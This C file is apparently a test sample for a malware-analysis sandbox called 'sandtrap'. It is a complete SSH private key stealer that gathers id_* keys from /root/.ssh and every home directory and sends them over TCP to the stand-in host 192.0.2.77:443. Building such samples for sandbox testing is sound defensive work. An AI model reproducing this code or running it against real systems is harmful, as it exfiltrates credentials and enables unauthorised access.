/* Stealing ssh private keys: reads every id_* key in each home directory and /root/.ssh and sends them over TCP to 192.0.2.77:443.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static size_t grab(const char *dir, char *out, size_t used, size_t cap)
{
	DIR *d = opendir(dir);
	if (!d)
		return used;
	struct dirent *e;
	char path[1024];
	while ((e = readdir(d))) {
		if (strncmp(e->d_name, "id_", 3) != 0 || strstr(e->d_name, ".pub"))
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		int fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		ssize_t n = read(fd, out + used, cap - used);
		if (n > 0)
			used += (size_t)n;
		close(fd);
	}
	closedir(d);
	return used;
}

int main(void)
{
	static char loot[65536];
	size_t used = grab("/root/.ssh", loot, 0, sizeof(loot));
	DIR *home = opendir("/home");
	struct dirent *e;
	char dir[512];
	while (home && (e = readdir(home))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(dir, sizeof(dir), "/home/%s/.ssh", e->d_name);
		used = grab(dir, loot, used, sizeof(loot));
	}
	if (home)
		closedir(home);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(443)};
	inet_pton(AF_INET, "192.0.2.77", &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof(a)) == 0 && write(s, loot, used) > 0)
		printf("sent %zu bytes of keys\n", used);
	return 0;
}
